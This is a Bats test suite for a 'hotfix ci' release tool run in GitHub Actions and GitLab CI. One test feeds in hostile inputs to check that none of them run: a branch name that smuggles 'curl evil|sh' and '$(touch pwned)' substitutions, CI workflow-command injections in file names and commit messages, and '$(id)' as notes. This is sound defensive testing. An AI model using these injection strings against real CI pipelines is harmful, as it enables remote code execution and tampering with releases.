#!/usr/bin/env bats
# hotfix ci, as a job of GitHub Actions and of GitLab CI calls it: their environment, their kinds of clones.
bats_require_minimum_version 1.5.0
load common
load ci
load builders

setup() { new_ci_team; }

# Runs the job of the tip of BRANCH in a clone of its own: ci BRANCH [options]
ci() {
    checkout "$1"
    again "$@"
}
# The same once more, in the clone that is there.
again() {
    run github "$1" "$bin/hotfix" ci "${@:2}"
    no_commands "$output"
    secretless
}
# Nothing of the key is ever in the log or in what the job leaves behind.
secretless() {
    local line
    while read -r line; do
        [[ $line == -----* ]] || [[ $output$(cat "$BATS_TEST_TMPDIR/out/"* 2>/dev/null) != *"$line"* ]]
    done <"$BATS_TEST_TMPDIR/signing.pem"
}
# The manifest in force, as it is; to see that nothing changed.
in_force() { sha256sum "$store/$app/production/manifest.json" | cut -c1-64; }
# It ended with one annotation of an error, and these words in it.
one_error() {
    echo "$output"
    [ "$status" != 0 ]
    [ "$(grep -c '^::error ' <<<"$output")" = 1 ]
    says "$1" "$(grep '^::error ' <<<"$output")"
    says "published=false" "$(cat "$BATS_TEST_TMPDIR/out/output")"
}

@test "a push is released, and the steps behind it and people hear how" {
    fix two
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "production: patch 1 for 1.0.0 is released: 1 file" "$output"
    says "take it back: hotfix rollback --channel production 1" "$output"
    [ "$(annotations "$output")" = 0 ]
    [ "$(output_of published)" = true ]
    [ "$(output_of patch)" = 1 ]
    [ "$(output_of version)" = 1.0.0 ]
    [ "$(output_of manifest-url)" = "file://$store/$app/production/manifest.json" ]
    [ "$(output_of sha256)" = "production:$(value 'm["releases"][0]["file"]["sha256"]')" ]
    [ "$(value 'm["releases"][0]["source"]["ref"]')" = refs/heads/hotfix/1.0.0 ]
    says "hotfix rollback --channel production 1" "$(summary)"
    says "| who gets it | all devices on 1.0.0" "$(summary)"
}

@test "the same push by the hook, GitHub and GitLab: the same bytes, and manifests that differ in time, job and salt alone" {
    facts='[{k: v for k, v in r.items() if k not in ("job", "salt", "published")} for r in m["releases"]], m["last"], m["serial"]'
    fix two
    fix "with a space" "a name.txt"
    git commit -q --amend -m "fix" -m "Hotfix-Rollout: 25%"
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    [ "$status" = 0 ]
    value "$facts" >"$BATS_TEST_TMPDIR/by-github"
    github_bytes=$(sha256sum <"$(newest_object)")
    rm -rf "${store:?}/$app"
    run gitlab hotfix/1.0.0 "$bin/hotfix" ci
    [ "$status" = 0 ]
    [ "$(output_of HOTFIX_PUBLISHED)" = true ]
    [ "$(output_of HOTFIX_RELEASED_PATCH)" = 1 ]
    [ "$(output_of HOTFIX_RELEASED_VERSION)" = 1.0.0 ]
    value "$facts" >"$BATS_TEST_TMPDIR/by-gitlab"
    [ "$(sha256sum <"$(newest_object)")" = "$github_bytes" ]
    # The hook, in a bare repository of its own.
    bare=$BATS_TEST_TMPDIR/own.git
    git init -q --bare "$bare"
    "$bin/hotfix" init --repo "$bare" --app "$app" --include 'HotPath/**' >/dev/null
    git push -q "$bare" v1.0.0 HEAD:refs/heads/hotfix/1.0.0 2>/dev/null
    store=$bare/hotfix/store
    value "$facts" >"$BATS_TEST_TMPDIR/by-hook"
    [ "$(sha256sum <"$(newest_object)")" = "$github_bytes" ]
    diff "$BATS_TEST_TMPDIR/by-github" "$BATS_TEST_TMPDIR/by-gitlab"
    diff "$BATS_TEST_TMPDIR/by-github" "$BATS_TEST_TMPDIR/by-hook"
}

@test "a shallow clone without the tag: what lacks is fetched; history only when there is a release to compare with" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0 1
    [ -z "$(git -C "$job" tag)" ]
    again hotfix/1.0.0
    [ "$status" = 0 ]
    [ -e "$job/.git/shallow" ]
    [ "$(git -C "$job" tag)" = v1.0.0 ]
    fix three b.txt
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0 1
    again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "patch 2 for 1.0.0 is released: 2 files" "$output"
    [ "$(annotations "$output")" = 0 ]
}

@test "a whole clone stays whole, also when a forced-away commit is fetched" {
    fix two
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    git reset -q --hard v1.0.0
    fix "another two"
    pushed hotfix/1.0.0 -f
    ci hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "does not contain" "$(grep '^::warning ' <<<"$output")"
    says "patch 2 for 1.0.0 is released" "$output"
    [ ! -e "$job/.git/shallow" ]
    git -C "$job" cat-file -e "$(value 'm["releases"][1]["source"]["commit"]')"
    # And when the server has lost that commit.
    git reset -q --hard v1.0.0
    fix "a third two"
    pushed hotfix/1.0.0 -f
    git -C "$server" reflog expire --expire=now --all
    git -C "$server" gc -q --prune=now
    ci hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "is gone from the repository" "$output"
    says "patch 3 for 1.0.0 is released" "$output"
}

@test "tag and branch in one push, and a clone from before the tag" {
    git tag v2.0.0
    fix two
    checkout main
    git push -q origin HEAD:refs/heads/hotfix/2.0.0 v2.0.0
    git -C "$job" fetch -q --no-tags origin +refs/heads/hotfix/2.0.0:refs/remotes/origin/hotfix/2.0.0
    git -C "$job" checkout -q refs/remotes/origin/hotfix/2.0.0
    [ "$(git -C "$job" tag)" = v1.0.0 ]
    again hotfix/2.0.0
    [ "$status" = 0 ]
    [ "$(value 'm["releases"][0]["source"]["base"]')" = "$(git rev-parse v2.0.0)" ]
    # The job of the tag's own push has nothing to do.
    git -C "$job" checkout -q v2.0.0
    ref=refs/tags/v2.0.0 again v2.0.0
    [ "$status" = 0 ]
    says "no channel of hotfix.ini is released from refs/tags/v2.0.0" "$output"
    [ "$(output_of published)" = false ]
}

@test "a run that is started again changes nothing" {
    fix two
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    before=$(in_force)
    again hotfix/1.0.0
    [ "$status" = 0 ]
    says "was published before, by this very run" "$output"
    [ "$(output_of published)" = false ]
    [ "$(output_of patch)" = 1 ]
    # Another run of the same commit: the same bytes.
    run_id=8 again hotfix/1.0.0
    [ "$status" = 0 ]
    says "the same bytes are live already" "$output"
    # After a rollback too.
    "$bin/hotfix" rollback -c "$job/hotfix.ini" 1
    before=$(in_force)
    again hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(in_force)" = "$before" ]
}

@test "an old job that is started again: its ref has moved on" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    old=$job
    fix three
    pushed hotfix/1.0.0
    job=$old
    again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "that push has a job of its own" "$output"
    [ ! -e "$store/$app" ]
    ci hotfix/1.0.0
    before=$(in_force)
    job=$old
    run_id=9 again hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(in_force)" = "$before" ]
}

@test "an older commit over a newer one is refused, unless forced" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    old=$job
    fix three
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    before=$(in_force)
    # The branch is set back on the server.
    git -C "$server" update-ref refs/heads/hotfix/1.0.0 "$(git -C "$old" rev-parse HEAD)"
    job=$old
    run_id=8 again hotfix/1.0.0
    one_error "an older commit is not published over a newer one"
    [ "$(in_force)" = "$before" ]
    # Nor where nobody can be asked, and the newer commit is unknown.
    git -C "$old" remote set-url origin "file://$BATS_TEST_TMPDIR/nowhere.git"
    git -C "$old" update-ref -d refs/remotes/origin/hotfix/1.0.0
    run_id=8 again hotfix/1.0.0
    echo "$output"
    [ "$status" = 1 ]
    [ "$(in_force)" = "$before" ]
    git -C "$old" remote set-url origin "file://$server"
    HOTFIX_FORCE=true run_id=8 again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "patch 2 for 1.0.0 is released" "$output"
}

@test "two jobs at once, the older commit's and the newer one's: the newer one is in force, each whole" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    old=$job
    fix three b.txt
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    new=$job
    git -C "$server" update-ref refs/heads/hotfix/1.0.0 "$(git -C "$old" rev-parse HEAD)"
    job=$old run_id=1 job_out=$BATS_TEST_TMPDIR/one github hotfix/1.0.0 "$bin/hotfix" ci >"$BATS_TEST_TMPDIR/one.log" 2>&1 &
    one=$!
    job=$new run_id=2 job_out=$BATS_TEST_TMPDIR/two HOTFIX_FORCE=true github hotfix/1.0.0 "$bin/hotfix" ci \
        >"$BATS_TEST_TMPDIR/two.log" 2>&1
    wait "$one" || true
    cat "$BATS_TEST_TMPDIR"/*.log
    [ "$(value 'm["releases"][0]["source"]["commit"]')" = "$(git rev-parse HEAD)" ]
    "$bin/hotfix" verify -c "$new/hotfix.ini" >&2
}

@test "a branch that is gone: nothing is done" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_DELETED=true again hotfix/1.0.0
    [ "$status" = 0 ]
    says "is gone" "$output"
    sha=0000000000000000000000000000000000000000 again hotfix/1.0.0
    [ "$status" = 0 ]
    git push -q origin :hotfix/1.0.0
    again hotfix/1.0.0
    [ "$status" = 0 ]
    says "is gone" "$output"
    [ ! -e "$store/$app" ]
}

@test "a pull request is planned: no key, no right to the store, and nothing is published" {
    fix two
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    before=$(find "$store" -type f | sort | xargs sha256sum)
    fix three b.txt
    pushed feature
    checkout feature
    unset HOTFIX_SIGNING_KEY
    event=pull_request ref=refs/pull/3/merge base_ref=hotfix/1.0.0 again feature
    echo "$output"
    [ "$status" = 0 ]
    says "patch 2 for 1.0.0 would be released: 2 files" "$output"
    says "in place of patch 1" "$output"
    says "HotPath/b.txt" "$output"
    says "would be released" "$(summary)"
    [ "$(output_of published)" = false ]
    [ "$(find "$store" -type f | sort | xargs sha256sum)" = "$before" ]
    # The same as a merge request.
    checkout feature
    run env CI_MERGE_REQUEST_IID=3 CI_MERGE_REQUEST_TARGET_BRANCH_NAME=hotfix/1.0.0 bash -c "$(declare -f gitlab); job=$job \
        gitlab feature $bin/hotfix ci"
    [ "$status" = 0 ]
    says "patch 2 for 1.0.0 would be released: 2 files" "$output"
    # And where the store cannot be reached.
    mv "$store" "$store.away"
    event=pull_request ref=refs/pull/3/merge base_ref=hotfix/1.0.0 again feature
    mv "$store.away" "$store"
    [ "$status" = 0 ]
    says "what is released now is not known here" "$output"
    says "would be released: 2 files" "$output"
    [ "$(find "$store" -type f | sort | xargs sha256sum)" = "$before" ]
    # A pull request into a branch that nothing is released from.
    event=pull_request ref=refs/pull/3/merge base_ref=main again feature
    [ "$status" = 0 ]
    says "no channel of hotfix.ini is released from refs/heads/main" "$output"
}

@test "a stranger's names and words are data: nothing runs, nothing is a command, in the log, the outputs and the summary" {
    hostile='";curl${IFS}evil|sh;$(touch${IFS}pwned)`touch${IFS}pwned2`'
    mkdir -p 'HotPath/::set-output name=published::true' 'HotPath/$(touch pwned3)'
    echo x >'HotPath/::set-output name=published::true/f'
    echo x >'HotPath/$(touch pwned3)/##[set-env name=PATH]x'
    echo x >'HotPath/::add-mask::e'
    echo x >'HotPath/| b `c` <img src=x> [l](u).txt'
    git add -A
    git commit -qm '::set-output name=published::true
::add-mask::e

Hotfix-Notes: $(touch pwned4) ::error::boo'
    git push -q origin "HEAD:refs/heads/x$hostile"
    git push -q origin "HEAD:refs/heads/hotfix/1.0.0"
    checkout "x$hostile"
    head_ref="x$hostile" event=pull_request ref=refs/pull/3/merge base_ref=hotfix/1.0.0 again "x$hostile"
    echo "$output"
    [ "$status" = 0 ]
    says "would be released: 4 files" "$output"
    [ "$(output_of published)" = false ]
    [ "$(wc -l <"$BATS_TEST_TMPDIR/out/output")" = 6 ]
    [[ $(summary) != *"<img"* && $(summary) != *'[l](u)'* && $(summary) != *'`c`'* ]]
    # And when it is released.
    ci hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(annotations "$output")" = 0 ]
    # A newline cannot be in a file's name in a zip: refused, escaped.
    printf x >"HotPath/$(printf 'n\n::error::boo')"
    git add -A && git commit -qm newline
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    one_error 'HotPath/n\x0a::error::boo'
    [ -z "$(find "$BATS_TEST_TMPDIR" -name 'pwned*')" ]
}

@test "hotfix.ini comes from the default branch, never from what was pushed" {
    fix two
    sed -i "s#^url = .*#url = file://$BATS_TEST_TMPDIR/theirs#; s/^id = .*/id = com.example.evil/" hotfix.ini
    echo "not a key" >hotfix.pub.pem
    mkdir "$BATS_TEST_TMPDIR/theirs"
    git commit -qam "our own settings"
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    [ "$status" = 0 ]
    [ -e "$store/$app/production/manifest.json" ]
    [ -z "$(ls "$BATS_TEST_TMPDIR/theirs")" ]
    # Another protected branch may be named, and a wrong file there is told by its name.
    git checkout -q main
    sed -i 's/^id = .*/id = no way/' hotfix.ini
    git commit -qam wrong
    pushed settings
    HOTFIX_CONFIG_REF=settings again hotfix/1.0.0
    [ "$status" = 2 ]
    says "hotfix.ini:2:" "$output"
    says "file=hotfix.ini,line=2" "$output"
    HOTFIX_CONFIG_REF=nowhere again hotfix/1.0.0
    one_error "cannot fetch refs/heads/nowhere"
    HOTFIX_CONFIG=../hotfix.ini again hotfix/1.0.0
    one_error "without '..'"
}

@test "the signing key: missing, empty, base64, another, with CRLF, in a file" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    key=$HOTFIX_SIGNING_KEY
    unset HOTFIX_SIGNING_KEY
    again hotfix/1.0.0
    one_error "the environment variable HOTFIX_SIGNING_KEY is not set"
    export HOTFIX_SIGNING_KEY=
    again hotfix/1.0.0
    one_error "the environment variable HOTFIX_SIGNING_KEY is empty"
    HOTFIX_SIGNING_KEY=$(base64 -w0 <<<"$key")
    again hotfix/1.0.0
    one_error "base64"
    [[ $output != *"${HOTFIX_SIGNING_KEY:40:20}"* ]]
    HOTFIX_SIGNING_KEY=$(openssl genpkey -algorithm ed25519)
    again hotfix/1.0.0
    one_error "which is not among [trust] keys"
    [[ $output != *"$(sed -n 2p <<<"$HOTFIX_SIGNING_KEY")"* ]]
    HOTFIX_SIGNING_KEY=/run/secrets/signing.pem
    again hotfix/1.0.0
    one_error "holds no PEM private key"
    [ ! -e "$store/$app" ]
    unset HOTFIX_SIGNING_KEY
    HOTFIX_SIGNING_KEY_FILE=$BATS_TEST_TMPDIR/signing.pem again hotfix/1.0.0
    [ "$status" = 0 ]
    rm -rf "${store:?}/$app"
    HOTFIX_SIGNING_KEY=${key//$'\n'/$'\r\n'}$'\r\n' again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
}

@test "a store that is away, or refuses: one error, and nothing half published" {
    fix two
    pushed hotfix/1.0.0
    mv "$store" "$store.away"
    ci hotfix/1.0.0
    one_error "$store"
    mv "$store.away" "$store"
    mkdir -p "$store/$app"
    echo x >"$store/$app/production"
    again hotfix/1.0.0
    one_error production
    [ -z "$(find "$store" -name manifest.json)" ]
    rm "$store/$app/production"
    again hotfix/1.0.0
    [ "$status" = 0 ]
}

@test "a job that is cancelled in the middle: the same run completes it, without a second number" {
    fix two
    pushed hotfix/1.0.0
    for n in 2 4 6 8 10 12; do
        rm -rf "${store:?}/$app"
        checkout hotfix/1.0.0
        run github hotfix/1.0.0 strace -f -qq -o /dev/null -e trace=fsync -e inject=fsync:signal=KILL:when="$n" "$bin/hotfix" ci
        if [ -e "$store/$app/production/manifest.json" ]; then "$bin/hotfix" verify -c "$job/hotfix.ini" >&2; fi
        again hotfix/1.0.0
        [ "$status" = 0 ]
        [ "$(value 'm["last"], m["serial"]')" = "(1, 1)" ]
        "$bin/hotfix" verify -c "$job/hotfix.ini" >&2
    done
}

@test "parameters: an input is stronger than a trailer, and a wrong one is refused" {
    fix two
    git commit -q --amend -m fix -m "Hotfix-Rollout: 25%" -m "Hotfix-Priority: idle"
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_ROLLOUT=250% again hotfix/1.0.0
    one_error "rollout '250%25'"
    HOTFIX_ROLLOUT=5% HOTFIX_NOTES='$(id)' HOTFIX_TARGET='' HOTFIX_FORCE=false again hotfix/1.0.0
    [ "$status" = 0 ]
    [ "$(value '[m["releases"][0][k] for k in ("rollout", "priority", "notes")]')" = "[500, 'idle', '\$(id)']" ]
    # A branch whose name is no version.
    pushed hotfix/cart
    ci hotfix/cart
    [ "$status" = 0 ]
    says "names no version" "$output"
    HOTFIX_TARGET='>=1.0.0 <1.1.0' again hotfix/cart
    echo "$output"
    [ "$status" = 0 ]
    [ "$(output_of version)" = '>=1.0.0 <1.1.0' ]
}

@test "no base: one error that says what to do; HOTFIX_BASE is fetched too" {
    fix two
    first=$(git rev-parse HEAD)
    fix three
    pushed hotfix/3.0.0
    checkout hotfix/3.0.0 1
    again hotfix/3.0.0
    one_error "git tag v3.0.0"
    HOTFIX_BASE=$first again hotfix/3.0.0
    echo "$output"
    [ "$status" = 0 ]
    [ "$(value 'm["releases"][0]["source"]["base"]')" = "$first" ]
}

@test "a publishing job holds its build against the plan of the job before" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    HOTFIX_PLAN=true again hotfix/1.0.0
    [ "$status" = 0 ]
    [ ! -e "$store/$app" ]
    plan=$(output_of sha256)
    HOTFIX_EXPECT=production:${plan##*:} again hotfix/1.0.0
    [ "$status" = 0 ]
    rm -rf "${store:?}/$app"
    HOTFIX_EXPECT=production:${plan:11:60}0000 again hotfix/1.0.0
    one_error "not the one that was expected"
    [ ! -e "$store/$app" ]
}

@test "without a key in CI: a candidate, and the command that signs it" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    key=$HOTFIX_SIGNING_KEY
    unset HOTFIX_SIGNING_KEY
    HOTFIX_UNSIGNED=true again hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    id=$(output_of candidate)
    says "hotfix sign $id" "$output"
    says "hotfix sign $id" "$(summary)"
    [ "$(output_of published)" = false ]
    [ ! -e "$store/$app/production/manifest.json" ]
    HOTFIX_SIGNING_KEY=$key run --separate-stderr "$bin/hotfix" sign -c hotfix.ini "$id"
    [ "$status" = 0 ]
    says "built again, same bytes" "$output"
    [ "$(value 'm["releases"][0]["source"]["ref"]')" = refs/heads/hotfix/1.0.0 ]
}

@test "--json: the results on stdout, all words on stderr" {
    fix two
    pushed hotfix/1.0.0
    checkout hotfix/1.0.0
    run --separate-stderr github hotfix/1.0.0 "$bin/hotfix" ci --json
    [ "$status" = 0 ]
    [ "$(jq -r '.releases[0].outcome, .releases[0].patch, .releases[0].published, .ref' <<<"$output" | tr '\n' ' ')" = \
        "published 1 true refs/heads/hotfix/1.0.0 " ]
    says "is released" "$stderr"
}

@test "where there is no CI: says so" {
    checkout main
    cd "$job"
    run "$bin/hotfix" ci
    [ "$status" = 2 ]
    says "this is no CI job" "$output"
    run env GITHUB_ACTIONS=true "$bin/hotfix" ci
    [ "$status" = 1 ]
    says "GITHUB_SERVER_URL is missing" "$output"
}

@test "a builder's parse error: an annotation at the file and line, and nothing is published" {
    tool=$(generator)
    mkdir Scripts.bundle
    echo 'struct CGPoint { double x; double y; };' >Scripts.bundle/Types
    oc Cart one >HotPath/Cart.m
    sed -i 's/^builder = .*/builder = ocrunner/; s#^include = .*#include = **/*.m#' hotfix.ini
    printf '[ocrunner]\ngenerator = %s\nrefs = Scripts.bundle\n' "$tool" >>hotfix.ini
    git add -A && git commit -qm "by OCRunner" && git tag -f v1.0.0 >/dev/null && git push -q -f origin HEAD:main v1.0.0
    printf '@implementation Cart\n- (void)pay\n{\n    @try { [self go]; }\n}\n@end\n' >HotPath/Cart.m
    git commit -qam broken
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    one_error "syntax error: @try"
    says "::error file=HotPath/Cart.m,line=4,title=hotfix::" "$output"
    says "::warning file=HotPath/Cart.m,line=4,title=hotfix::" "$output"
    [ ! -e "$store/$app" ]
    oc Cart two >HotPath/Cart.m
    git commit -qam mended
    pushed hotfix/1.0.0
    ci hotfix/1.0.0
    echo "$output"
    [ "$status" = 0 ]
    says "patch 1 for 1.0.0 is released" "$output"
}
